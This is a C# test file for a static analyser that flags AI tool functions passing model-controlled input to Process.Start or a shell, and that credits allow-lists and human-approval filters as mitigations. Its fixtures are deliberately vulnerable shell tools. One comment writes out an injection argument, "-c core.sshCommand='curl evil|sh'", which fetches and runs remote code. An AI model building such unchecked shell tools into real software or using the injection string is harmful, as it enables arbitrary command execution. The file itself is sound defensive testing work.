using Tollgate.Tests.Infrastructure;
using Xunit;

namespace Tollgate.Tests.Risks;

/// <summary>shell.unrestricted (TG1001): model-controlled data reaches a process's program or arguments, or a shell runs a command line that is not constant.</summary>
public sealed class ShellUnrestrictedTests
{
    private const string Rule = "TG1001";
    private const string Risk = "shell.unrestricted";
    private const string Start = "System.Diagnostics.Process.Start";

    private const string ShellTools = """
        using System;
        using System.Collections.Generic;
        using System.ComponentModel;
        using System.Diagnostics;
        using ModelContextProtocol.Server;

        namespace Contoso.DevTools;

        public enum LogFormat { Oneline, Short, Full }

        [McpServerToolType]
        public sealed class ShellTools
        {
            private static readonly HashSet<string> AllowedPrograms = new(StringComparer.Ordinal) { "git", "dotnet", "npm" };

            [McpServerTool(Name = "run_command"), Description("Runs a shell command in the workspace")]
            public static string RunCommand(string command)
            {
                using var process = Process.Start("bash", "-c " + command)!;
                process.WaitForExit();
                return process.ExitCode.ToString();
            }

            [McpServerTool(Name = "run_program")]
            public static int RunProgram(string program, string arguments)
            {
                var info = new ProcessStartInfo { FileName = program, Arguments = arguments, UseShellExecute = false };
                using var process = Process.Start(info)!;
                process.WaitForExit();
                return process.ExitCode;
            }

            [McpServerTool(Name = "run_allowed")]
            public static int RunAllowed(string program, string arguments)
            {
                if (!AllowedPrograms.Contains(program))
                {
                    throw new ArgumentException($"'{program}' is not allowed");
                }

                using var process = Process.Start(program)!;
                process.WaitForExit();
                return process.ExitCode;
            }

            [McpServerTool(Name = "git")]
            public static int Git(string subcommand)
            {
                if (subcommand != "status" && subcommand != "log" && subcommand != "diff")
                {
                    throw new ArgumentException("unsupported git subcommand");
                }

                return Process.Start("git", subcommand)!.Id;
            }

            [McpServerTool(Name = "build")]
            public static int Build(string target)
            {
                switch (target)
                {
                    case "debug":
                    case "release":
                        return Process.Start("dotnet", "build -c " + target)!.Id;
                    default:
                        throw new ArgumentException("unknown target");
                }
            }

            [McpServerTool(Name = "run_checked")]
            public static int RunChecked(string command)
            {
                if (command == null || string.IsNullOrWhiteSpace(command))
                {
                    throw new ArgumentNullException(nameof(command));
                }

                return Process.Start("sh", new[] { "-c", command })!.Id;
            }

            [McpServerTool(Name = "git_status")]
            public static int GitStatus() => Process.Start("git", "status")!.Id;

            [McpServerTool(Name = "git_log")]
            public static int GitLog(int count, LogFormat format) =>
                Process.Start("git", $"log -n {count} --format={format.ToString().ToLowerInvariant()}")!.Id;

            [McpServerTool(Name = "list_all")]
            public static int ListAll() => Process.Start("bash", "-c \"ls -la | sort\"")!.Id;

            [McpServerTool(Name = "run_ci_step")]
            public static int RunCiStep() => Process.Start("bash", "-c " + Environment.GetEnvironmentVariable("CI_STEP"))!.Id;

            [McpServerTool(Name = "run_saved_script")]
            public static int RunSavedScript() => Process.Start("bash", "-c \"" + System.IO.File.ReadAllText("/etc/contoso/step.sh") + "\"")!.Id;
        }
        """;

    private const string ToolId = "Contoso.DevTools.ShellTools.";

    [Fact]
    public void AModelCommandRunByBashIsAnError()
    {
        var result = Scan.Sources(ShellTools);

        var finding = RiskAssert.Error(result, Rule, Risk, ToolId + "RunCommand", Start);
        Assert.Equal("process.exec", finding.Capability);
        Assert.Equal(new[] { ToolId + "RunCommand", Start }, finding.Trace);
        Assert.Contains("'command'", finding.Message);
    }

    [Fact]
    public void ModelParametersInAProcessStartInfoAreAnError()
    {
        var result = Scan.Sources(ShellTools);

        var findings = RiskAssert.Of(result, Risk, ToolId + "RunProgram");
        Assert.NotEmpty(findings);
        Assert.All(findings, f =>
        {
            Assert.Equal(Tollgate.Model.Severity.Error, f.Severity);
            Assert.Equal(Rule, f.RuleId);
            Assert.Null(f.Mitigation);
            Assert.Equal(ToolId + "RunProgram", f.Trace[0]);
        });
    }

    [Fact]
    public void AHashSetAllowListOfProgramsMitigates()
    {
        var result = Scan.Sources(ShellTools);

        RiskAssert.Mitigated(result, Rule, Risk, ToolId + "RunAllowed", "allow-list check in " + ToolId + "RunAllowed");
    }

    [Fact]
    public void EqualityWithConstantsIsAnAllowList()
    {
        var result = Scan.Sources(ShellTools);

        RiskAssert.Mitigated(result, Rule, Risk, ToolId + "Git", "allow-list check in " + ToolId + "Git");
    }

    [Fact]
    public void ASwitchOverConstantCasesIsAnAllowList()
    {
        var result = Scan.Sources(ShellTools);

        RiskAssert.Mitigated(result, Rule, Risk, ToolId + "Build", "allow-list check in " + ToolId + "Build");
    }

    [Fact]
    public void AnAllowListOfTheProgramDoesNotCoverItsArguments()
    {
        var result = Scan.Sources(
            """
            using System;
            using System.Collections.Generic;
            using System.Diagnostics;
            using ModelContextProtocol.Server;

            namespace Contoso.DevTools;

            [McpServerToolType]
            public static class ToolchainTools
            {
                private static readonly HashSet<string> Programs = new(StringComparer.Ordinal) { "git", "dotnet" };

                [McpServerTool(Name = "toolchain")]
                public static int Toolchain(string program, string arguments)
                {
                    if (!Programs.Contains(program))
                    {
                        throw new ArgumentException("program not allowed");
                    }

                    // "git" with "-c core.sshCommand='curl evil|sh' fetch" runs anything.
                    return Process.Start(program, arguments)!.Id;
                }
            }
            """);

        RiskAssert.Error(result, Rule, Risk, "Contoso.DevTools.ToolchainTools.Toolchain", Start);
    }

    [Theory]
    [MemberData(nameof(Scan.Engines), MemberType = typeof(Scan))]
    public void AnAllowListWhoseResultIsIgnoredDoesNotMitigate(string engine)
    {
        var result = Scan.With(
            engine,
            """
            using System;
            using System.Collections.Generic;
            using System.Diagnostics;
            using ModelContextProtocol.Server;

            namespace Contoso.DevTools;

            [McpServerToolType]
            public static class LaxTools
            {
                private static readonly HashSet<string> Known = new(StringComparer.Ordinal) { "git", "dotnet" };

                [McpServerTool(Name = "launch")]
                public static int Launch(string program)
                {
                    if (!Known.Contains(program))
                    {
                        Console.Error.WriteLine($"warning: launching unknown program {program}");
                    }

                    return Process.Start(program)!.Id;
                }
            }
            """);

        RiskAssert.Error(result, Rule, Risk, "Contoso.DevTools.LaxTools.Launch", Start);
    }

    [Theory]
    [MemberData(nameof(Scan.Engines), MemberType = typeof(Scan))]
    public void ACheckMadeAsAStatementWithItsAnswerThrownAwayDoesNotMitigate(string engine)
    {
        const string Plugin = """
            using System;
            using System.Collections.Generic;
            using System.Diagnostics;
            using ModelContextProtocol.Server;

            namespace Contoso.DevTools;

            [McpServerToolType]
            public static class CarelessTools
            {
                private static readonly HashSet<string> Known = new(StringComparer.Ordinal) { "git", "dotnet" };

                [McpServerTool(Name = "launch")]
                public static int Launch(string program)
                {
                    Known.Contains(program);
                    return Process.Start(program)!.Id;
                }

                [McpServerTool(Name = "launch_git")]
                public static int LaunchGit(string program)
                {
                    string.Equals(program, "git", StringComparison.Ordinal);
                    return Process.Start(program)!.Id;
                }

                [McpServerTool(Name = "launch_checked")]
                public static int LaunchChecked(string program)
                {
                    if (!Known.Contains(program))
                    {
                        throw new ArgumentException("unknown program");
                    }

                    return Process.Start(program)!.Id;
                }
            }
            """;

        var result = Scan.With(engine, Plugin);

        RiskAssert.Error(result, Rule, Risk, "Contoso.DevTools.CarelessTools.Launch", Start);
        RiskAssert.Error(result, Rule, Risk, "Contoso.DevTools.CarelessTools.LaunchGit", Start);
        RiskAssert.Mitigated(result, Rule, Risk, "Contoso.DevTools.CarelessTools.LaunchChecked", "allow-list check in Contoso.DevTools.CarelessTools.LaunchChecked");
    }

    [Fact]
    public void AnAllowListCheckedOnlyAfterTheProcessStartedDoesNotMitigate()
    {
        var result = Scan.Sources(
            """
            using System;
            using System.Collections.Generic;
            using System.Diagnostics;
            using ModelContextProtocol.Server;

            namespace Contoso.DevTools;

            [McpServerToolType]
            public static class LateTools
            {
                private static readonly HashSet<string> Known = new(StringComparer.Ordinal) { "git", "dotnet" };

                [McpServerTool(Name = "launch")]
                public static int Launch(string program)
                {
                    var id = Process.Start(program)!.Id;
                    if (!Known.Contains(program))
                    {
                        throw new InvalidOperationException("unknown program");
                    }

                    return id;
                }

                [McpServerTool(Name = "launch_then_audit")]
                public static int LaunchThenAudit(string program)
                {
                    var id = Runner.Run(program);
                    Audit.EnsureKnown(program);
                    return id;
                }

                [McpServerTool(Name = "audit_then_launch")]
                public static int AuditThenLaunch(string program)
                {
                    Audit.EnsureKnown(program);
                    return Runner.Run(program);
                }
            }

            internal static class Runner
            {
                public static int Run(string program) => Process.Start(program)!.Id;
            }

            internal static class Audit
            {
                private static readonly HashSet<string> Known = new(StringComparer.Ordinal) { "git", "dotnet" };

                public static void EnsureKnown(string program)
                {
                    if (!Known.Contains(program))
                    {
                        throw new InvalidOperationException("unknown program");
                    }
                }
            }
            """);

        RiskAssert.Error(result, Rule, Risk, "Contoso.DevTools.LateTools.Launch", Start);
        RiskAssert.Error(result, Rule, Risk, "Contoso.DevTools.LateTools.LaunchThenAudit", Start);
        RiskAssert.Mitigated(result, Rule, Risk, "Contoso.DevTools.LateTools.AuditThenLaunch", "allow-list check in Contoso.DevTools.Audit.EnsureKnown");
    }

    [Fact]
    public void ANullOrEmptyCheckIsNotAnAllowList()
    {
        var result = Scan.Sources(ShellTools);

        RiskAssert.Error(result, Rule, Risk, ToolId + "RunChecked", Start);
    }

    [Fact]
    public void AConstantCommandIsACapabilityButNotARisk()
    {
        var result = Scan.Sources(ShellTools);

        Assert.Equal(new[] { "process.exec" }, result.CapabilitiesOf(ToolId + "GitStatus"));
        RiskAssert.None(result, Risk, ToolId + "GitStatus");
    }

    [Fact]
    public void IntAndEnumParametersCannotInjectIntoACommand()
    {
        var result = Scan.Sources(ShellTools);

        Assert.Equal(new[] { "process.exec" }, result.CapabilitiesOf(ToolId + "GitLog"));
        RiskAssert.None(result, Risk, ToolId + "GitLog");
    }

    [Fact]
    public void AShellRunningAConstantCommandLineIsNotARisk()
    {
        var result = Scan.Sources(ShellTools);

        Assert.Equal(new[] { "process.exec" }, result.CapabilitiesOf(ToolId + "ListAll"));
        RiskAssert.None(result, Risk, ToolId + "ListAll");
    }

    [Fact]
    public void AShellRunningANonConstantCommandLineIsAnErrorWithoutModelData()
    {
        var result = Scan.Sources(ShellTools);

        var finding = RiskAssert.Error(result, Rule, Risk, ToolId + "RunSavedScript", Start);
        Assert.Contains("shell interpreter", finding.Message);
    }

    [Fact]
    public void AShellRunningAnEnvironmentVariableIsAnError()
    {
        var result = Scan.Sources(ShellTools);

        var finding = RiskAssert.Error(result, Rule, Risk, ToolId + "RunCiStep", Start);
        Assert.Contains("shell interpreter", finding.Message);
    }

    [Fact]
    public void AHelperInAnotherFileCarriesTheCommand()
    {
        var result = Scan.Sources(
            """
            using System.Threading.Tasks;
            using Microsoft.SemanticKernel;

            namespace Contoso.Ops;

            public sealed class OpsPlugin
            {
                [KernelFunction("restart_service")]
                public Task<int> RestartAsync(string service) => CommandRunner.RunAsync("systemctl", "restart " + service);
            }
            """,
            """
            using System.Diagnostics;
            using System.Threading.Tasks;

            namespace Contoso.Ops;

            internal static class CommandRunner
            {
                public static async Task<int> RunAsync(string program, string arguments)
                {
                    using var process = Process.Start(new ProcessStartInfo(program, arguments) { RedirectStandardOutput = true })!;
                    await process.WaitForExitAsync();
                    return process.ExitCode;
                }
            }
            """);

        var findings = RiskAssert.Of(result, Risk, "Contoso.Ops.OpsPlugin.RestartAsync");
        Assert.NotEmpty(findings);
        Assert.All(findings, f =>
        {
            Assert.Equal(Tollgate.Model.Severity.Error, f.Severity);
            Assert.Equal(new[] { "Contoso.Ops.OpsPlugin.RestartAsync", "Contoso.Ops.CommandRunner.RunAsync" }, new[] { f.Trace[0], f.Trace[1] });
            Assert.Equal("Source1.cs", f.Location!.Path);
        });
    }

    [Fact]
    public void AHelperThatChecksAnAllowListNamesItselfAsTheMitigation()
    {
        var result = Scan.Sources(
            """
            using System;
            using System.Collections.Generic;
            using System.Diagnostics;
            using ModelContextProtocol.Server;

            namespace Contoso.Ops;

            [McpServerToolType]
            public static class PackageTools
            {
                [McpServerTool(Name = "npm")]
                public static int Npm(string script)
                {
                    Policy.EnsureAllowed(script);
                    return Process.Start("npm", "run " + script)!.Id;
                }
            }

            internal static class Policy
            {
                private static readonly HashSet<string> Scripts = new() { "build", "test", "lint" };

                public static void EnsureAllowed(string script)
                {
                    if (!Scripts.Contains(script))
                    {
                        throw new InvalidOperationException("script not allowed");
                    }
                }
            }
            """);

        RiskAssert.Mitigated(result, Rule, Risk, "Contoso.Ops.PackageTools.Npm", "allow-list check in Contoso.Ops.Policy.EnsureAllowed");
    }

    [Fact]
    public void AProcessStartFoundByConstantNameThroughReflectionIsAnError()
    {
        var result = Scan.Sources(
            """
            using System;
            using System.Reflection;
            using ModelContextProtocol.Server;

            namespace Contoso.Sneaky;

            [McpServerToolType]
            public static class HelperTools
            {
                [McpServerTool(Name = "helper")]
                public static object? Helper(string input)
                {
                    var type = Type.GetType("System.Diagnostics.Process, System.Diagnostics.Process")!;
                    var start = type.GetMethod("Start", new[] { typeof(string), typeof(string) })!;
                    return start.Invoke(null, new object[] { "sh", "-c " + input });
                }
            }
            """);

        Assert.Contains("process.exec", result.CapabilitiesOf("Contoso.Sneaky.HelperTools.Helper"));
        RiskAssert.Error(result, Rule, Risk, "Contoso.Sneaky.HelperTools.Helper", Start);
    }

    [Fact]
    public void InterfaceDispatchToTheRunnerIsFollowed()
    {
        var result = Scan.Sources(
            """
            using System.Diagnostics;
            using Microsoft.SemanticKernel;

            namespace Contoso.Build;

            public interface ICommandRunner
            {
                int Run(string commandLine);
            }

            public sealed class BashRunner : ICommandRunner
            {
                public int Run(string commandLine) => Process.Start("/bin/bash", new[] { "-c", commandLine })!.Id;
            }

            public sealed class BuildPlugin
            {
                private readonly ICommandRunner _runner;

                public BuildPlugin(ICommandRunner runner) => _runner = runner;

                [KernelFunction("make")]
                public int Make(string target) => _runner.Run("make " + target);
            }
            """);

        var finding = RiskAssert.Error(result, Rule, Risk, "Contoso.Build.BuildPlugin.Make", Start);
        Assert.Contains("Contoso.Build.BashRunner.Run", finding.Trace);
    }

    [Fact]
    public void ALambdaRunOnTheThreadPoolIsFollowed()
    {
        var result = Scan.Sources(
            """
            using System.Diagnostics;
            using System.Threading.Tasks;
            using ModelContextProtocol.Server;

            namespace Contoso.Async;

            [McpServerToolType]
            public static class BackgroundTools
            {
                [McpServerTool(Name = "run_in_background")]
                public static async Task<int> RunInBackground(string script)
                {
                    var process = await Task.Run(() => Process.Start("pwsh", "-Command " + script));
                    return process!.Id;
                }
            }
            """);

        RiskAssert.Error(result, Rule, Risk, "Contoso.Async.BackgroundTools.RunInBackground", Start);
    }

    [Fact]
    public void ALinqLambdaOverModelArgumentsIsFollowed()
    {
        var result = Scan.Sources(
            """
            using System.Diagnostics;
            using System.Linq;
            using ModelContextProtocol.Server;

            namespace Contoso.Batch;

            [McpServerToolType]
            public static class BatchTools
            {
                [McpServerTool(Name = "run_many")]
                public static int[] RunMany(string[] programs) =>
                    programs.Select(p => Process.Start(p)!).Select(p => p.Id).ToArray();
            }
            """);

        RiskAssert.Error(result, Rule, Risk, "Contoso.Batch.BatchTools.RunMany", Start);
    }

    [Fact]
    public void APartialClassSplitAcrossFilesIsFollowed()
    {
        var result = Scan.Sources(
            """
            using ModelContextProtocol.Server;

            namespace Contoso.Partial;

            [McpServerToolType]
            public sealed partial class DeployTools
            {
                [McpServerTool(Name = "deploy")]
                public int Deploy(string environment) => Launch("./deploy.sh " + environment);
            }
            """,
            """
            using System.Diagnostics;

            namespace Contoso.Partial;

            public sealed partial class DeployTools
            {
                private int Launch(string commandLine) => Process.Start("bash", "-c '" + commandLine + "'")!.Id;
            }
            """);

        var finding = RiskAssert.Error(result, Rule, Risk, "Contoso.Partial.DeployTools.Deploy", Start);
        Assert.Equal(new[] { "Contoso.Partial.DeployTools.Deploy", "Contoso.Partial.DeployTools.Launch", Start }, finding.Trace);
    }

    [Fact]
    public void ADelegateKeptInAFieldCarriesTheProgram()
    {
        var result = Scan.Sources(
            """
            using System;
            using System.Diagnostics;
            using ModelContextProtocol.Server;

            namespace Contoso.Fields;

            [McpServerToolType]
            public sealed class LauncherTools
            {
                private readonly Func<string, Process?> _launch = program => Process.Start(program);

                [McpServerTool(Name = "open")]
                public int Open(string target) => _launch(target)?.Id ?? -1;
            }
            """);

        var finding = RiskAssert.Error(result, Rule, Risk, "Contoso.Fields.LauncherTools.Open", Start);
        Assert.Contains("Contoso.Fields.LauncherTools._launch", finding.Trace);
    }

    [Fact]
    public void ApprovalRequiredAIFunctionMitigates()
    {
        var result = Scan.Sources(
            """
            using System.Collections.Generic;
            using System.Diagnostics;
            using Microsoft.Extensions.AI;

            namespace Contoso.Agent;

            public static class AgentTools
            {
            #pragma warning disable MEAI001
                public static IList<AITool> Create() => new List<AITool>
                {
                    new ApprovalRequiredAIFunction(AIFunctionFactory.Create((string command) => Process.Start("cmd.exe", "/c " + command)!.Id, "run_command")),
                    AIFunctionFactory.Create((string command) => Process.Start("cmd.exe", "/c " + command)!.Id, "run_command_unchecked"),
                };
            #pragma warning restore MEAI001
            }
            """);

        RiskAssert.Mitigated(result, Rule, Risk, "Contoso.Agent.AgentTools.Create.<lambda>1", "human approval (ApprovalRequiredAIFunction)");
        RiskAssert.Error(result, Rule, Risk, "Contoso.Agent.AgentTools.Create.<lambda>2", Start);
    }

    [Fact]
    public void ALocalFunctionAndADelegateInALocalAreFollowed()
    {
        var result = Scan.Sources(
            """
            using System;
            using System.Diagnostics;
            using ModelContextProtocol.Server;

            namespace Contoso.Locals;

            [McpServerToolType]
            public static class LocalTools
            {
                [McpServerTool(Name = "open_with_local_function")]
                public static int OpenWithLocalFunction(string program)
                {
                    return Launch(program);

                    static int Launch(string file) => Process.Start(file)!.Id;
                }

                [McpServerTool(Name = "open_with_local_delegate")]
                public static int OpenWithLocalDelegate(string program)
                {
                    Func<string, Process?> launch = file => Process.Start(file);
                    return launch(program)!.Id;
                }
            }
            """);

        RiskAssert.Error(result, Rule, Risk, "Contoso.Locals.LocalTools.OpenWithLocalFunction", Start);
        RiskAssert.Error(result, Rule, Risk, "Contoso.Locals.LocalTools.OpenWithLocalDelegate", Start);
    }

    [Fact]
    public void ApprovalRequiredAIFunctionAroundAFunctionKeptInALocalMitigates()
    {
        var result = Scan.Sources(
            """
            using System.Collections.Generic;
            using System.Diagnostics;
            using Microsoft.Extensions.AI;

            namespace Contoso.Agent;

            public static class GatedTools
            {
            #pragma warning disable MEAI001
                public static IList<AITool> Create()
                {
                    var run = AIFunctionFactory.Create((string command) => Process.Start("bash", "-c " + command)!.Id, "run_command");
                    var tools = new List<AITool>();
                    tools.Add(new ApprovalRequiredAIFunction(run));
                    return tools;
                }
            #pragma warning restore MEAI001
            }
            """);

        RiskAssert.Mitigated(result, Rule, Risk, "Contoso.Agent.GatedTools.Create.<lambda>1", "human approval (ApprovalRequiredAIFunction)");
    }

    [Theory]
    [MemberData(nameof(Scan.Engines), MemberType = typeof(Scan))]
    public void AnAutoInvocationFilterThatAsksTheUserMitigates(string engine)
    {
        var result = Scan.With(
            engine,
            """
            using System;
            using System.Diagnostics;
            using System.Threading.Tasks;
            using Microsoft.SemanticKernel;

            namespace Contoso.Agents;

            public sealed class ShellPlugin
            {
                [KernelFunction("run")]
                public int Run(string command) => Process.Start("bash", "-c " + command)!.Id;
            }

            public sealed class ConfirmFilter : IAutoFunctionInvocationFilter
            {
                public async Task OnAutoFunctionInvocationAsync(AutoFunctionInvocationContext context, Func<AutoFunctionInvocationContext, Task> next)
                {
                    Console.Write($"Allow {context.Function.Name}? [y/N] ");
                    if (Console.ReadLine()?.Trim() != "y")
                    {
                        context.Terminate = true;
                        return;
                    }

                    await next(context);
                }
            }

            public static class Setup
            {
                public static Kernel Build()
                {
                    var kernel = new Kernel();
                    kernel.AutoFunctionInvocationFilters.Add(new ConfirmFilter());
                    return kernel;
                }
            }
            """);

        var finding = RiskAssert.Single(result, Risk, "Contoso.Agents.ShellPlugin.Run");
        Assert.Equal(Tollgate.Model.Severity.Warning, finding.Severity);
        Assert.Contains("ConfirmFilter", finding.Mitigation);
    }

    [Theory]
    [MemberData(nameof(Scan.Engines), MemberType = typeof(Scan))]
    public void AFilterRegisteredAsAServiceMitigates(string engine)
    {
        var result = Scan.With(
            engine,
            """
            using System;
            using System.Diagnostics;
            using System.Threading.Tasks;
            using Microsoft.Extensions.DependencyInjection;
            using Microsoft.SemanticKernel;

            namespace Contoso.Agents;

            public sealed class ShellPlugin
            {
                [KernelFunction("run")]
                public int Run(string command) => Process.Start("bash", "-c " + command)!.Id;
            }

            public sealed class PolicyFilter : IFunctionInvocationFilter
            {
                public Task OnFunctionInvocationAsync(FunctionInvocationContext context, Func<FunctionInvocationContext, Task> next)
                {
                    if (context.Function.Name == "run" && Environment.GetEnvironmentVariable("ALLOW_SHELL") != "1")
                    {
                        throw new UnauthorizedAccessException("shell tools are disabled");
                    }

                    return next(context);
                }
            }

            public static class Setup
            {
                public static IServiceCollection AddAgent(this IServiceCollection services) =>
                    services.AddSingleton<IFunctionInvocationFilter, PolicyFilter>();
            }
            """);

        Assert.Contains("PolicyFilter", RiskAssert.Single(result, Risk, "Contoso.Agents.ShellPlugin.Run").Mitigation);
    }

    [Theory]
    [MemberData(nameof(Scan.Engines), MemberType = typeof(Scan))]
    public void AFilterThatOnlyLogsOrIsNeverRegisteredDoesNotMitigate(string engine)
    {
        var result = Scan.With(
            engine,
            """
            using System;
            using System.Diagnostics;
            using System.Threading.Tasks;
            using Microsoft.SemanticKernel;

            namespace Contoso.Agents;

            public sealed class ShellPlugin
            {
                [KernelFunction("run")]
                public int Run(string command) => Process.Start("bash", "-c " + command)!.Id;
            }

            public sealed class LoggingFilter : IAutoFunctionInvocationFilter
            {
                public async Task OnAutoFunctionInvocationAsync(AutoFunctionInvocationContext context, Func<AutoFunctionInvocationContext, Task> next)
                {
                    Console.WriteLine($"calling {context.Function.Name}");
                    await next(context);
                    if (context.Result is null)
                    {
                        return;
                    }
                }
            }

            public sealed class UnusedConfirmFilter : IAutoFunctionInvocationFilter
            {
                public async Task OnAutoFunctionInvocationAsync(AutoFunctionInvocationContext context, Func<AutoFunctionInvocationContext, Task> next)
                {
                    if (Console.ReadLine() != "y")
                    {
                        return;
                    }

                    await next(context);
                }
            }

            public static class Setup
            {
                public static Kernel Build()
                {
                    var kernel = new Kernel();
                    kernel.AutoFunctionInvocationFilters.Add(new LoggingFilter());
                    return kernel;
                }
            }
            """);

        RiskAssert.Error(result, Rule, Risk, "Contoso.Agents.ShellPlugin.Run", Start);
    }

    [Fact]
    public void ALogMessageMentioningRmRfIsNotACommand()
    {
        var result = Scan.Sources(
            """
            using System;
            using System.ComponentModel;
            using ModelContextProtocol.Server;

            namespace Contoso.Safety;

            [McpServerToolType]
            public static class SafetyTools
            {
                [McpServerTool(Name = "explain_command"), Description("Explains what a shell command would do without running it")]
                public static string Explain(string command)
                {
                    Console.Error.WriteLine($"explain requested; refusing to run 'rm -rf /' style commands: {command}");
                    return command.Contains("rm -rf") ? "This deletes files recursively." : "No destructive flags found.";
                }
            }
            """);

        Assert.Empty(result.CapabilitiesOf("Contoso.Safety.SafetyTools.Explain"));
        RiskAssert.NoRisks(result);
    }

    [Fact]
    public void AToolNamedExecThatOnlyComputesIsNotARisk()
    {
        var result = Scan.Sources(
            """
            using System.Linq;
            using ModelContextProtocol.Server;

            namespace Contoso.Math;

            [McpServerToolType]
            public static class Calculator
            {
                [McpServerTool(Name = "exec")]
                public static double Exec(string expression) =>
                    expression.Split('+').Select(part => double.Parse(part.Trim(), System.Globalization.CultureInfo.InvariantCulture)).Sum();
            }
            """);

        Assert.Equal("exec", result.Tool("Contoso.Math.Calculator.Exec").Name);
        Assert.Empty(result.CapabilitiesOf("Contoso.Math.Calculator.Exec"));
        RiskAssert.NoRisks(result);
    }

    [Fact]
    public void AUserDefinedProcessClassIsNotAProcess()
    {
        var result = Scan.Sources(
            """
            using System.Collections.Generic;
            using ModelContextProtocol.Server;

            namespace Contoso.Workflow;

            public sealed class Process
            {
                private static readonly List<string> Queue = new();

                public static Process Start(string name, string arguments)
                {
                    Queue.Add(name + " " + arguments);
                    return new Process();
                }
            }

            [McpServerToolType]
            public static class WorkflowTools
            {
                [McpServerTool(Name = "start_workflow")]
                public static string StartWorkflow(string workflow, string input)
                {
                    Process.Start(workflow, input);
                    return "queued";
                }
            }
            """);

        Assert.Empty(result.CapabilitiesOf("Contoso.Workflow.WorkflowTools.StartWorkflow"));
        RiskAssert.NoRisks(result);
    }
}
